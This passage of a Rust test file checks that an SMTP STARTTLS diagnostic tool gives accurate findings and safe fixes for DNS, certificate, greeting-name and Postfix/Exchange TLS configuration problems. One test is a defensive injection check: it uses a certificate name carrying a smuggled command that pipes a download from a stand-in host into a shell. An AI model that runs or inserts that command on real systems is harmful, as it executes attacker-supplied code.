//! Tests of the accuracy of findings and fixes (issue 8): each reproduces a false finding or
//! a wrong fix and says what the admin must read instead.

#![allow(clippy::unwrap_used)]

use std::net::SocketAddr;

use super::sweep::{answer, mail_host, no_address, route};
use super::tests::{
    NOW, World, assert_fix_is_usable, eop_without_starttls, observed, refuse_starttls, reply, world,
};
use super::{cross, dns};
use crate::diagnose::*;
use crate::dns::route::{Lookup, Route};
use crate::evidence::Evidence;
use crate::model::{FailureKind, Observation, Phase, PhaseFailure, Via};
use crate::scripted::{Ca, LeafSpec};
use crate::smtp::Capabilities;
use crate::tls::{HandshakeError, HandshakeFailure, TrustStore};

const HOST: &str = "mail.contoso.test";

/// The findings of one endpoint, every fix checked for text.
fn run(obs: &Observation, policy: &Policy) -> Vec<Finding> {
    let findings = diagnose(&Evidence::derive(obs.clone(), NOW), policy, NOW);
    findings.iter().for_each(assert_fix_is_usable);
    findings
}

/// The finding with `code`, or a panic listing the codes raised.
fn find(findings: &[Finding], code: Code) -> &Finding {
    findings.iter().find(|f| f.code == code).unwrap_or_else(|| {
        let codes: Vec<&str> = findings.iter().map(|f| f.code.as_str()).collect();
        panic!("no {}; codes: {codes:?}", code.as_str())
    })
}

/// The same observation, answered by a server whose banner reveals `kind`.
fn as_server(mut obs: Observation, kind: &str) -> Observation {
    let greeting = obs
        .capabilities
        .as_ref()
        .map(|c| c.greeting_name.clone())
        .unwrap_or_default();
    let banner = match kind {
        "exchange" => format!("{greeting} Microsoft ESMTP MAIL Service ready"),
        "postfix" => format!("{greeting} ESMTP Postfix"),
        _ => format!("{greeting} ESMTP"),
    };
    obs.banner = Some(reply(220, &[&banner]));
    obs
}

fn on_port(mut obs: Observation, port: u16) -> Observation {
    obs.endpoint.address.set_port(port);
    obs
}

/// A healthy chain for `names` (the first is the CN), from the unit PKI.
fn chain_for(w: &World, names: &[&str]) -> Vec<Vec<u8>> {
    let spec = LeafSpec {
        names: names.iter().map(|n| n.to_string()).collect(),
        ..LeafSpec::valid_for(names[0], NOW, 90)
    };
    w.chain(&spec, true)
}

fn with_expected(names: &[&str]) -> Policy {
    Policy {
        expected_names: names.iter().map(|n| n.to_string()).collect(),
        ..Policy::default()
    }
}

/// The text of every command of a fix, in order.
fn commands(f: &Finding) -> Vec<String> {
    f.fix.commands().map(|(_, c)| c.to_string()).collect()
}

// --- DNS: never an invented host (issue 8 item 3; new-user trial, wrong fix 8).

fn implicit(name: &str) -> Route {
    route(
        name,
        Lookup::Implicit,
        vec![mail_host(name, Some(0), answer("192.0.2.7", None))],
    )
}

#[test]
fn a_name_without_mx_gets_nothing_or_an_mx_naming_itself() {
    let name = "mx-notls.test.example";
    let found = dns::route_rules(&implicit(name), "192.0.2.53");
    let f = find(&found, Code::DnsNoMx);
    assert!(
        !f.fix.text().contains(&format!("mail.{name}")),
        "an MX at a host nobody created breaks mail:\n{}",
        f.fix
    );
    for (shell, c) in f.fix.commands() {
        if shell == Shell::DnsZone && c.contains(" MX ") {
            assert_eq!(
                c,
                format!("{name}. 3600 IN MX 10 {name}."),
                "the only MX to propose names the host itself"
            );
        }
    }
    assert!(f.fix.text().contains("Nothing to change"), "{}", f.fix);
}

#[test]
fn no_dns_fix_proposes_an_invented_mail_host() {
    let name = "contoso.test";
    let null = route(name, Lookup::NullMx, vec![]);
    let nothing = route(
        name,
        Lookup::Implicit,
        vec![mail_host(name, Some(0), Err(no_address(name)))],
    );
    let mut found = dns::route_rules(&null, "192.0.2.53");
    for h in &nothing.hosts {
        found.extend(dns::host_rules(&nothing, h, "192.0.2.53"));
    }
    assert!(found.len() >= 2, "{found:?}");
    for f in &found {
        for (_, c) in f.fix.commands() {
            assert!(
                !c.contains(&format!("mail.{name}")),
                "{}: a record for a host nobody created: {c}",
                f.code
            );
        }
    }
}

// --- cert-name-mismatch: "point the MX record at" only when an MX led there (wrong fix 9).

#[test]
fn pointing_the_mx_elsewhere_is_offered_only_when_an_mx_led_here() {
    let w = world();
    let chain = chain_for(&w, &["www.contoso.test"]);
    // A bracketed host: no MX record was involved, so there is none to repoint.
    let direct = observed(HOST, HOST, chain.clone(), &w.trust);
    let f = run(&direct, &Policy::default());
    let mismatch = find(&f, Code::CertNameMismatch);
    assert!(
        !mismatch.fix.text().contains("MX record"),
        "no MX led to {HOST}:\n{}",
        mismatch.fix
    );
    // Reached through the MX of contoso.test: repointing it is one option, said with its
    // condition.
    let mut via_mx = observed(HOST, HOST, chain, &w.trust);
    via_mx.endpoint.via = Some(Via {
        domain: "contoso.test".into(),
        preference: 10,
    });
    let f = run(&via_mx, &Policy::default());
    let text = find(&f, Code::CertNameMismatch).fix.text();
    assert!(
        text.contains("MX record of contoso.test") && text.contains("www.contoso.test"),
        "{text}"
    );
    assert!(
        text.contains("If www.contoso.test is this mail server's own name"),
        "the condition is said:\n{text}"
    );
}

// --- An unsent issuer: a missing intermediate or a private root (issue 8 item 2).

/// A leaf issued straight by a private root that the server does not send and nobody trusts.
fn leaf_of_unsent_private_root() -> Vec<Vec<u8>> {
    let private = Ca::root("Contoso Private Root", NOW).unwrap();
    let leaf = private.leaf(&LeafSpec::valid_for(HOST, NOW, 90)).unwrap();
    vec![leaf.chain[0].to_vec()]
}

#[test]
fn an_unsent_issuer_is_said_to_be_an_intermediate_or_a_root_and_how_to_tell() {
    let w = world();
    for kind in ["postfix", "exchange", "unknown"] {
        let obs = as_server(
            observed(HOST, HOST, leaf_of_unsent_private_root(), &w.trust),
            kind,
        );
        let f = run(&obs, &Policy::default());
        let chain = f
            .iter()
            .find(|f| matches!(f.code, Code::CertChainIncomplete | Code::CertUntrusted))
            .unwrap();
        assert!(
            chain.summary.contains("Contoso Private Root")
                && chain.summary.contains("intermediate")
                && chain.summary.contains("private root"),
            "{kind}: both possibilities in the summary: {}",
            chain.summary
        );
        assert!(
            !chain.summary.starts_with("the chain is incomplete"),
            "{kind}: {}",
            chain.summary
        );
        let cmds = commands(chain);
        assert!(
            cmds[0].contains("openssl s_client -connect 192.0.2.10:25 -starttls smtp")
                && cmds[0].contains("-ext authorityInfoAccess"),
            "{kind}: the first command tells the two apart, it changes nothing:\n{}",
            chain.fix
        );
        let text = chain.fix.text();
        for needle in [
            "CA Issuers",
            "an intermediate",
            "a private root",
            "public CA",
        ] {
            assert!(text.contains(needle), "{kind}: {needle} missing:\n{text}");
        }
    }
}

// --- The EHLO greeting name (issue 8 item 5; new-user untrue finding 3, wrong fixes 4, 11, 12).

/// A server greeting as `greeting` with a trusted certificate for `names`, probed as `host`.
fn greeting_case(host: &str, greeting: &str, names: &[&str], kind: &str) -> Observation {
    let w = world();
    as_server(
        observed(host, greeting, chain_for(&w, names), &w.trust),
        kind,
    )
}

#[test]
fn the_greeting_fix_uses_the_name_senders_check_not_the_first_on_the_certificate() {
    let names = ["autodiscover.contoso.test", HOST, "hybrid.contoso.test"];
    let private = "srvex01.domain.local";
    for (kind, expect) in [
        ("exchange", format!("-Fqdn {HOST}")),
        ("postfix", format!("myhostname={HOST}")),
        ("unknown", format!("({HOST})")),
    ] {
        let f = run(
            &greeting_case(HOST, private, &names, kind),
            &Policy::default(),
        );
        let text = find(&f, Code::CertEhloNameMismatch).fix.text();
        assert!(text.contains(&expect), "{kind}: {expect} missing:\n{text}");
        assert!(!text.contains("autodiscover"), "{kind}:\n{text}");
        assert!(
            !text.contains(&format!("add {private}")),
            "{kind}: no public CA issues a certificate for {private}:\n{text}"
        );
    }
    // --expect-name names what the sender checks (an Exchange Online connector's TlsDomain).
    let policy = with_expected(&["hybrid.contoso.test"]);
    let f = run(&greeting_case(HOST, private, &names, "exchange"), &policy);
    let text = find(&f, Code::CertEhloNameMismatch).fix.text();
    assert!(text.contains("-Fqdn hybrid.contoso.test"), "{text}");
    assert!(
        !text.contains("Exchange Online checks this name"),
        "Exchange Online checks its connector's TlsDomain, not the greeting:\n{text}"
    );
}

#[test]
fn adding_the_greeting_to_the_certificate_is_offered_only_for_a_public_name() {
    let public = "relay.fabrikam.com";
    let f = run(
        &greeting_case(HOST, public, &[HOST], "unknown"),
        &Policy::default(),
    );
    let text = find(&f, Code::CertEhloNameMismatch).fix.text();
    assert!(text.contains(&format!("add {public}")), "{text}");
    for private in [
        "exch01.corp.contoso.local",
        "relay.internal.test",
        "srv.lan",
    ] {
        for kind in ["exchange", "postfix", "unknown"] {
            let f = run(
                &greeting_case(HOST, private, &[HOST], kind),
                &Policy::default(),
            );
            let text = find(&f, Code::CertEhloNameMismatch).fix.text();
            assert!(!text.contains(&format!("add {private}")), "{kind}:\n{text}");
        }
    }
}

#[test]
fn an_unsafe_first_name_on_the_certificate_does_not_hide_a_safe_one() {
    let evil = "x';curl evil.example|sh;'.test";
    let obs = greeting_case(
        "192.0.2.10",
        "exch01.corp.contoso.local",
        &[evil, HOST],
        "exchange",
    );
    let f = run(&obs, &Policy::default());
    let text = find(&f, Code::CertEhloNameMismatch).fix.text();
    assert!(text.contains(&format!("-Fqdn {HOST}")), "{text}");
    assert!(!text.contains("evil.example"), "{text}");
}

#[test]
fn a_greeting_name_off_the_certificate_is_info_unless_exchange_picks_its_certificate_by_it() {
    let internal = "relay.internal.test";
    for kind in ["postfix", "unknown"] {
        let f = run(
            &greeting_case(HOST, internal, &[HOST], kind),
            &Policy::default(),
        );
        assert_eq!(
            find(&f, Code::CertEhloNameMismatch).severity,
            Severity::Info,
            "{kind}: senders check the MX name, which the certificate covers"
        );
        find(&f, Code::StarttlsOk);
    }
    let f = run(
        &greeting_case(HOST, internal, &[HOST], "exchange"),
        &Policy::default(),
    );
    assert_eq!(
        find(&f, Code::CertEhloNameMismatch).severity,
        Severity::Warn,
        "Exchange chooses its certificate by the connector Fqdn when TlsCertificateName is empty"
    );
    // When the host name probed is not covered either, the greeting is no side note.
    let f = run(
        &greeting_case(HOST, internal, &["other.contoso.test"], "postfix"),
        &Policy::default(),
    );
    assert_eq!(
        find(&f, Code::CertEhloNameMismatch).severity,
        Severity::Warn
    );
}

#[test]
fn the_postfix_greeting_fix_names_the_service_and_what_the_override_changes() {
    let obs = greeting_case(HOST, "relay.internal.test", &[HOST], "postfix");
    let f = run(&obs, &Policy::default());
    let fix = &find(&f, Code::CertEhloNameMismatch).fix;
    let cmds: Vec<&str> = fix.commands().map(|(_, c)| c).collect();
    assert!(
        cmds.contains(&"postconf -P 'smtp/inet/myhostname=mail.contoso.test'"),
        "{fix}"
    );
    assert!(
        cmds.iter().any(|c| c.starts_with("postconf -P | grep")),
        "{fix}"
    );
    let text = fix.text();
    assert!(!text.contains("stay as they are"), "{text}");
    assert!(text.contains("mydestination"), "{text}");
    // On a port that no stock service listens on, the service is looked up, never guessed.
    let f = run(&on_port(obs, 2533), &Policy::default());
    let fix = &find(&f, Code::CertEhloNameMismatch).fix;
    let cmds: Vec<&str> = fix.commands().map(|(_, c)| c).collect();
    assert!(
        cmds.iter()
            .any(|c| c.starts_with("service_2533=$(postconf -M") && c.contains("(^|:)2533$")),
        "{fix}"
    );
    assert!(
        cmds.contains(&"postconf -P \"${service_2533:?}/inet/myhostname=mail.contoso.test\""),
        "{fix}"
    );
}

#[test]
fn exchange_online_connector_commands_only_for_exchange() {
    let policy = with_expected(&["hybrid.contoso.test"]);
    for (kind, online) in [("exchange", true), ("postfix", false), ("unknown", false)] {
        let w = world();
        let obs = as_server(observed(HOST, HOST, chain_for(&w, &[HOST]), &w.trust), kind);
        let f = run(&obs, &policy);
        let fix = &find(&f, Code::CertExpectedNameMismatch).fix;
        let exo = fix
            .commands()
            .any(|(s, _)| s == Shell::ExchangeOnlinePowerShell);
        assert_eq!(exo, online, "{kind}:\n{fix}");
        assert!(fix.text().contains("TlsDomain"), "{kind}:\n{fix}");
    }
}

// --- Handshake failures: the cause first, and Postfix's own settings (issue 8 item 4; new-user
// untrue finding 2, wrong fix 6).

/// A CA (ECDSA P-256, "Unit RSA Test CA") and two leaves for mail.contoso.test that it issued,
/// one on an RSA-1024 key and one on an RSA-2048 key, valid 2026-01-01 to 2036-01-01. Made
/// once with Python's `cryptography`; only the certificates are kept (no key is needed to judge
/// them), since neither rcgen nor a rustls server can make or serve an RSA-1024 leaf.
const RSA_TEST_CA: &str = "-----BEGIN CERTIFICATE-----
MIIBtjCCAVygAwIBAgIUbK21Y3B6wGHJBswM4mzQBVZQsdUwCgYIKoZIzj0EAwIw
OTEcMBoGA1UECgwTc3RhcnR0bHMtY2hlY2sgdW5pdDEZMBcGA1UEAwwQVW5pdCBS
U0EgVGVzdCBDQTAeFw0yNjAxMDEwMDAwMDBaFw0zNjAxMDEwMDAwMDBaMDkxHDAa
BgNVBAoME3N0YXJ0dGxzLWNoZWNrIHVuaXQxGTAXBgNVBAMMEFVuaXQgUlNBIFRl
c3QgQ0EwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAASaxioVbNQW+XsZwr225jMU
dCCmO5or/jJX9lFVb4tvGiFSceZG8zM2cu6wygn9nh8IFW0T2Gedx1m1zfR6v1YD
o0IwQDAPBgNVHRMBAf8EBTADAQH/MA4GA1UdDwEB/wQEAwIBhjAdBgNVHQ4EFgQU
b4xGr4bNozTtaqtqHQL6K0dh0L4wCgYIKoZIzj0EAwIDSAAwRQIhAL/00tCkJWMR
hmBYCTZyPnHdit0ArsVuHXgTo0mzx7sHAiAlDcvDaCpE4c49EnzsK5soUlYiadds
yHI6ZQvSHm03zw==
-----END CERTIFICATE-----";
const RSA_1024_LEAF: &str = "-----BEGIN CERTIFICATE-----
MIICIDCCAcagAwIBAgIUVXj5UrhpM/90LBzKpnwoalrExkgwCgYIKoZIzj0EAwIw
OTEcMBoGA1UECgwTc3RhcnR0bHMtY2hlY2sgdW5pdDEZMBcGA1UEAwwQVW5pdCBS
U0EgVGVzdCBDQTAeFw0yNjAxMDEwMDAwMDBaFw0zNjAxMDEwMDAwMDBaMDoxHDAa
BgNVBAoME3N0YXJ0dGxzLWNoZWNrIHVuaXQxGjAYBgNVBAMMEW1haWwuY29udG9z
by50ZXN0MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDKVfrwD42Tq9PH7Sqo
5oQg+N4VY8ZpqMGfv/VUqlQ5N++UvH40xaWyoITOl0qusgBwZOAeIlF73OZZz+EC
mVOzLmImoqsIvArsiojNsRkMjfu+yzStpe8ygnu93+DsALwWLxLTpiAS9ZA5LZ/n
XE6VD4Sh6cudsoXKN5S4+QJMkwIDAQABo2QwYjAcBgNVHREEFTATghFtYWlsLmNv
bnRvc28udGVzdDAMBgNVHRMBAf8EAjAAMBMGA1UdJQQMMAoGCCsGAQUFBwMBMB8G
A1UdIwQYMBaAFG+MRq+GzaM07Wqrah0C+itHYdC+MAoGCCqGSM49BAMCA0gAMEUC
IBaJOi6zkxNi/otn5N7KtxjHMIC1xe50J46/GQl4y80MAiEA68AfdBAJqfzkBb0Q
N3XUcAxjJUTDUoE89yZEu6kLQWs=
-----END CERTIFICATE-----";
const RSA_2048_LEAF: &str = "-----BEGIN CERTIFICATE-----
MIICpTCCAkqgAwIBAgIUfvKFl/Rq4MNUrVSCrT+L07dLYzwwCgYIKoZIzj0EAwIw
OTEcMBoGA1UECgwTc3RhcnR0bHMtY2hlY2sgdW5pdDEZMBcGA1UEAwwQVW5pdCBS
U0EgVGVzdCBDQTAeFw0yNjAxMDEwMDAwMDBaFw0zNjAxMDEwMDAwMDBaMDoxHDAa
BgNVBAoME3N0YXJ0dGxzLWNoZWNrIHVuaXQxGjAYBgNVBAMMEW1haWwuY29udG9z
by50ZXN0MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAii9uqBpGh34g
46xkMdUnr4R6vS6DnUfg0BsqOakg3GWC55E6EcNg2V1HHCRq1c7u0Dt1+UzHwr4y
XEMY3GBpfVTp+N7rnTKj65rmJuXFyq23bUaUJiTzhcOSfcKnXoxFM2jCF49UfFsd
RW7ybNEGbwUB9hqjnzolZcs3KgEukUpOnoDaSyTiEBU/5qPdYl+mKv5ZMtFVd092
/ES0dGOL2/+4PXD/we2Lt5Eog8A6OqcHGlPlJBMcmncaekCI+3E0alwW4Fpl9/l5
9WaxJ4A1v4j9uWQV65K6fNEEPV23tOWT7vQcTTlaGY/wAn10im6eOLFEChOrBbKx
4xSqD1ZvZQIDAQABo2QwYjAcBgNVHREEFTATghFtYWlsLmNvbnRvc28udGVzdDAM
BgNVHRMBAf8EAjAAMBMGA1UdJQQMMAoGCCsGAQUFBwMBMB8GA1UdIwQYMBaAFG+M
Rq+GzaM07Wqrah0C+itHYdC+MAoGCCqGSM49BAMCA0kAMEYCIQCm3rPXL04ANppi
G/ZbwwU3W6JgbvTFmXgv0WT/Y4kpIQIhAIpu5xqA4uOEhWUQiwqaESWfwzbADMdt
ciOpWa7MlTuv
-----END CERTIFICATE-----";

fn der(pem: &str) -> Vec<u8> {
    use rustls::pki_types::pem::PemObject as _;
    rustls::pki_types::CertificateDer::from_pem_slice(pem.as_bytes())
        .unwrap()
        .to_vec()
}

/// A server that accepted STARTTLS and then failed the handshake as `kind` says.
fn handshake_failed(mut obs: Observation, kind: HandshakeFailure, reason: &str) -> Observation {
    obs.tls = None;
    obs.ehlo_tls = None;
    obs.failure = Some(PhaseFailure {
        phase: Phase::Handshake,
        kind: FailureKind::Handshake,
        message: reason.into(),
        reply: None,
        overall_deadline: false,
    });
    obs.handshake_error = Some(HandshakeError {
        kind,
        reason: reason.into(),
        detail: "invalid peer certificate: BadSignature".into(),
    });
    obs
}

/// What the TLS layer says when the server's handshake signature is refused.
const SIGNATURE_REFUSED: &str = "the server's handshake signature was refused: its key is too weak (RSA under 2048 bits) or does not match the certificate";

#[test]
fn an_rsa_1024_leaf_refused_in_the_handshake_leads_with_the_weak_key() {
    let trust = TrustStore::from_certs([der(RSA_TEST_CA).into()], None);
    let chain = vec![der(RSA_1024_LEAF), der(RSA_TEST_CA)];
    let obs = handshake_failed(
        observed(HOST, HOST, chain, &trust),
        HandshakeFailure::WeakOrBadKey,
        SIGNATURE_REFUSED,
    );
    let mut f = run(&obs, &Policy::default());
    assert_eq!(
        f[0].code,
        Code::CertWeakKey,
        "the cause leads: {:?}",
        f.iter().map(|f| f.code.as_str()).collect::<Vec<_>>()
    );
    // The order survives the report's own ranking of everything together.
    f.reverse();
    rank(&mut f);
    assert_eq!(f[0].code, Code::CertWeakKey);
    let handshake = find(&f, Code::TlsHandshakeFailed);
    assert!(
        handshake.summary.contains("RSA 1024") && !handshake.summary.contains("does not match"),
        "the key was parsed: no guessing: {}",
        handshake.summary
    );
    // A key of a good size that still fails: it is not the size.
    let chain = vec![der(RSA_2048_LEAF), der(RSA_TEST_CA)];
    let obs = handshake_failed(
        observed(HOST, HOST, chain, &trust),
        HandshakeFailure::WeakOrBadKey,
        SIGNATURE_REFUSED,
    );
    let f = run(&obs, &Policy::default());
    let handshake = find(&f, Code::TlsHandshakeFailed);
    assert!(
        !handshake.summary.contains("too weak") && handshake.summary.contains("does not match"),
        "{}",
        handshake.summary
    );
    assert!(f.iter().all(|f| f.code != Code::CertWeakKey));
    // A peer that signs with a scheme it was not offered misbehaves; its key may be fine.
    let chain = vec![der(RSA_2048_LEAF), der(RSA_TEST_CA)];
    let mut obs = handshake_failed(
        observed(HOST, HOST, chain, &trust),
        HandshakeFailure::WeakOrBadKey,
        SIGNATURE_REFUSED,
    );
    if let Some(h) = obs.handshake_error.as_mut() {
        h.detail = "peer misbehaved: SignedHandshakeWithUnadvertisedSigScheme".into();
    }
    let f = run(&obs, &Policy::default());
    let handshake = find(&f, Code::TlsHandshakeFailed);
    assert!(
        !handshake.summary.contains("too weak") && !handshake.summary.contains("does not match"),
        "{}",
        handshake.summary
    );
}

/// A Postfix (its banner) on `port` whose handshake failed as `kind` says.
fn postfix_handshake(port: u16, kind: HandshakeFailure) -> Finding {
    let w = world();
    let obs = on_port(observed(HOST, HOST, chain_for(&w, &[HOST]), &w.trust), port);
    let obs = handshake_failed(obs, kind, "refused");
    find(&run(&obs, &Policy::default()), Code::TlsHandshakeFailed).clone()
}

#[test]
fn the_postfix_legacy_tls_fix_names_both_places_and_the_value() {
    for port in [25, 2539] {
        let f = postfix_handshake(port, HandshakeFailure::ProtocolVersion);
        let text = f.fix.text();
        for needle in [
            "postconf -n",
            "postconf -P",
            "smtpd_tls_protocols",
            "smtpd_tls_mandatory_protocols",
            "tls_config_file",
            ">=TLSv1",
            "TLS 1.2 and 1.3",
        ] {
            assert!(text.contains(needle), "{port}: {needle} missing:\n{text}");
        }
        let cmds = commands(&f);
        let service = if port == 25 {
            "smtp".to_string()
        } else {
            assert!(
                cmds.iter()
                    .any(|c| c.starts_with("service_2539=$(postconf -M")),
                "{text}"
            );
            "${service_2539:?}".to_string()
        };
        assert!(
            cmds.iter().any(|c| c.starts_with("postconf -PX")
                && c.contains(&format!("{service}/inet/smtpd_tls_protocols"))),
            "{port}: the master.cf override is the culprit in the field:\n{text}"
        );
        assert!(
            !cmds.iter().any(|c| c.starts_with("postconf -e")),
            "{port}: no unconditional change of main.cf:\n{text}"
        );
    }
}

#[test]
fn the_postfix_no_shared_cipher_fix_looks_for_the_certificate_first_and_keeps_the_cipher_defaults()
{
    let f = postfix_handshake(2536, HandshakeFailure::NoSharedCipher);
    let text = f.fix.text();
    assert!(!text.contains("tls_medium_cipherlist = DEFAULT"), "{text}");
    assert!(text.contains("postconf -X tls_medium_cipherlist"), "{text}");
    assert!(text.contains("error opening chain file"), "{text}");
    assert!(
        text.contains("journalctl") && text.contains("maillog_file"),
        "{text}"
    );
    assert!(!text.contains("/var/log/mail.log |"), "{text}");
}

// --- Postfix: installing a certificate, and why STARTTLS is missing or refused (new-user
// wrong fixes 1, 2, 5, 7).

/// The fix of `code` for a Postfix on `port` observed as `obs` (made from a healthy one).
fn postfix_fix(port: u16, code: Code, change: impl Fn(&mut Observation)) -> Finding {
    let w = world();
    let mut obs = on_port(observed(HOST, HOST, chain_for(&w, &[HOST]), &w.trust), port);
    change(&mut obs);
    find(&run(&obs, &Policy::default()), code).clone()
}

fn expired(obs: &mut Observation) {
    let w = world();
    let mut spec = LeafSpec::valid_for(HOST, NOW, 0);
    spec.not_before = NOW - time::Duration::days(400);
    spec.not_after = NOW - time::Duration::days(30);
    obs.chain = w.chain(&spec, true);
}

#[test]
fn the_postfix_certificate_fix_checks_the_files_first_and_names_no_path() {
    for port in [25, 2526] {
        let f = postfix_fix(port, Code::CertExpired, expired);
        let cmds = commands(&f);
        let text = f.fix.text();
        assert!(
            !text.contains("/etc/postfix"),
            "{port}: a made-up path:\n{text}"
        );
        let check = cmds
            .iter()
            .position(|c| c.starts_with("openssl x509"))
            .unwrap();
        let change = cmds
            .iter()
            .position(|c| c.contains("postconf -e \"smtpd_tls_chain_files"))
            .unwrap();
        assert!(
            cmds[change].starts_with(
                "test -r \"${key:?}\" && test -r \"${chain:?}\" && if postconf -P | grep -qE"
            ),
            "{port}: one guarded change, the override when there is one, main.cf otherwise, only with readable files: {}",
            cmds[change]
        );
        assert!(
            check < change,
            "{port}: the files are checked first:\n{text}"
        );
        assert!(
            cmds.iter().any(|c| c.starts_with("postconf -P |")),
            "{text}"
        );
        let reload = cmds.iter().find(|c| c.contains("postfix reload")).unwrap();
        assert!(
            reload.contains("test -r \"${chain:?}\""),
            "{port}: no reload without the files: {reload}"
        );
        let service = if port == 25 {
            "smtp"
        } else {
            "${service_2526:?}"
        };
        assert!(
            cmds.iter()
                .any(|c| c.contains(&format!("{service}/inet/smtpd_tls_chain_files="))),
            "{port}:\n{text}"
        );
    }
}

#[test]
fn the_postfix_454_fix_reads_the_log_where_it_is_and_compares_the_given_files() {
    let f = postfix_fix(2530, Code::StarttlsRejected, refused_454);
    let text = f.fix.text();
    for needle in [
        "journalctl -u 'postfix*'",
        "postconf -h maillog_file",
        "cannot get RSA certificate from file",
        "openssl pkey -pubout -in \"${key:?}\"",
        "postconf -P |",
    ] {
        assert!(text.contains(needle), "{needle} missing:\n{text}");
    }
    assert!(!text.contains("/var/log/mail.log |"), "{text}");
}

fn no_starttls(obs: &mut Observation) {
    let ehlo = reply(250, &[&format!("{HOST} Hello [192.0.2.1]"), "PIPELINING"]);
    obs.capabilities = Some(Capabilities::parse(&ehlo));
    obs.ehlo = Some(ehlo);
    obs.tls = None;
    obs.trust = None;
    obs.chain = Vec::new();
    obs.ehlo_tls = None;
    obs.starttls_reply = None;
}

#[test]
fn the_postfix_starttls_fix_sets_the_level_on_the_service_of_the_port() {
    for (port, line) in [
        (25, "postconf -P 'smtp/inet/smtpd_tls_security_level=may'"),
        (
            587,
            "postconf -P 'submission/inet/smtpd_tls_security_level=encrypt'",
        ),
        (
            2529,
            "postconf -P \"${service_2529:?}/inet/smtpd_tls_security_level=may\"",
        ),
    ] {
        let f = postfix_fix(port, Code::StarttlsNotOffered, no_starttls);
        let cmds = commands(&f);
        assert!(
            cmds.iter().any(|c| c == line),
            "{port}: {line} missing:\n{}",
            f.fix
        );
        let text = f.fix.text();
        assert!(text.contains("disabling TLS support"), "{text}");
        assert!(!text.contains("cannot load certificate"), "{text}");
    }
}

#[test]
fn the_postfix_chain_fix_lists_what_the_chain_file_holds() {
    let f = postfix_fix(2531, Code::CertChainIncomplete, |obs| {
        obs.chain.truncate(1);
        let w = world();
        obs.trust = Some(w.trust.check(
            &obs.chain,
            rustls::pki_types::UnixTime::since_unix_epoch(std::time::Duration::from_secs(
                NOW.unix_timestamp() as u64,
            )),
        ));
    });
    let text = f.fix.text();
    assert!(text.contains("openssl pkcs7 -print_certs"), "{text}");
    assert!(!text.contains("/etc/postfix"), "{text}");
}

// --- STARTTLS on some ports of a host and not on others (new-user untrue finding 1, wrong
// fixes 3, 11, 12).

/// The endpoints of HOST at 192.0.2.10 on `ports`, each made by `make` from a healthy one.
/// Changes a healthy observation into the case under test.
type Change = fn(&mut Observation);

fn ports_of(kind: &str, ports: &[(u16, Change)]) -> Vec<Evidence> {
    let w = world();
    ports
        .iter()
        .map(|(port, change)| {
            let mut obs = as_server(
                on_port(
                    observed(HOST, HOST, chain_for(&w, &[HOST]), &w.trust),
                    *port,
                ),
                kind,
            );
            change(&mut obs);
            Evidence::derive(obs, NOW)
        })
        .collect()
}

fn healthy(_: &mut Observation) {}

fn other_name(obs: &mut Observation) {
    let w = world();
    obs.chain = chain_for(&w, &["other.contoso.test"]);
}

fn refused_454(obs: &mut Observation) {
    refuse_starttls(obs, 454, "4.7.0 TLS not available due to local problem");
}

fn handshake_broken(obs: &mut Observation) {
    let mut failed = handshake_failed(obs.clone(), HandshakeFailure::NoSharedCipher, "refused");
    failed.chain = Vec::new();
    failed.trust = None;
    *obs = failed;
}

fn port_mismatch(seen: &[Evidence]) -> Finding {
    find(&cross::rules(seen), Code::StarttlsPortMismatch).clone()
}

fn first_prose(f: &Finding) -> String {
    f.fix
        .steps
        .iter()
        .find_map(|s| match s {
            Step::Prose { text } => Some(text.clone()),
            Step::Command { .. } => None,
        })
        .unwrap()
}

#[test]
fn the_port_mismatch_fix_cites_only_ports_where_tls_worked() {
    let seen = ports_of(
        "postfix",
        &[
            (2525, healthy),
            (2528, other_name),
            (2529, no_starttls),
            (2530, refused_454),
            (2536, handshake_broken),
        ],
    );
    let f = port_mismatch(&seen);
    let intro = first_prose(&f);
    assert!(intro.contains("port 2525"), "{intro}");
    for port in ["2528", "2530", "2536"] {
        assert!(!intro.contains(port), "TLS did not work on {port}: {intro}");
    }
    // No port completed TLS with a certificate senders accept: nothing to call usable.
    let seen = ports_of("postfix", &[(2529, no_starttls), (2530, refused_454)]);
    let intro = first_prose(&port_mismatch(&seen));
    assert!(
        !intro.contains("usable") && !intro.contains("can do TLS"),
        "{intro}"
    );
}

#[test]
fn the_postfix_port_mismatch_fix_fills_in_the_service_and_lowers_nothing() {
    let seen = ports_of(
        "postfix",
        &[(25, no_starttls), (587, healthy), (2529, no_starttls)],
    );
    let f = port_mismatch(&seen);
    let cmds = commands(&f);
    for line in [
        "postconf -P 'smtp/inet/smtpd_tls_security_level=may'",
        "postconf -P \"${service_2529:?}/inet/smtpd_tls_security_level=may\"",
    ] {
        assert!(cmds.iter().any(|c| c == line), "{line} missing:\n{}", f.fix);
    }
    assert!(
        cmds.iter()
            .any(|c| c.starts_with("service_2529=$(postconf -M")),
        "{}",
        f.fix
    );
    assert!(
        !cmds.iter().any(|c| c.starts_with("postconf -e")),
        "{}",
        f.fix
    );
}

#[test]
fn the_exchange_port_mismatch_fix_handles_each_connector_and_its_certificate_name() {
    let seen = ports_of(
        "exchange",
        &[(25, no_starttls), (587, healthy), (2525, no_starttls)],
    );
    let thumbprint = seen[1].leaf().unwrap().thumbprint.clone();
    let f = port_mismatch(&seen);
    let cmds = commands(&f);
    let selections = cmds
        .iter()
        .filter(|c| c.starts_with("$rc = Get-ReceiveConnector"))
        .count();
    assert_eq!(selections, 2, "one connector per closed port:\n{}", f.fix);
    assert!(
        cmds.iter()
            .all(|c| !c.contains("-AuthMechanism") || c.contains("-notcontains 'Tls'")),
        "Tls is added only where it is missing:\n{}",
        f.fix
    );
    assert!(
        cmds.iter()
            .any(|c| c.contains(&thumbprint) && c.contains("$n = \"<I>")),
        "the name of the certificate that works on port 587:\n{}",
        f.fix
    );
    assert!(
        cmds.iter()
            .any(|c| c.starts_with("if ($rc.TlsCertificateName)")
                && c.contains("-TlsCertificateName $n")),
        "a TlsCertificateName set is reset to it:\n{}",
        f.fix
    );
    assert!(
        !f.fix
            .text()
            .contains("its Fqdn must be a name on the SMTP certificate (otherwise"),
        "{}",
        f.fix
    );
}

// --- Exchange (new-user wrong fixes 11, 12; exchange-config.md §2.1).

#[test]
fn the_exchange_certificate_fix_changes_the_hybrid_send_connector_by_name_and_restarts_both_services()
 {
    let w = world();
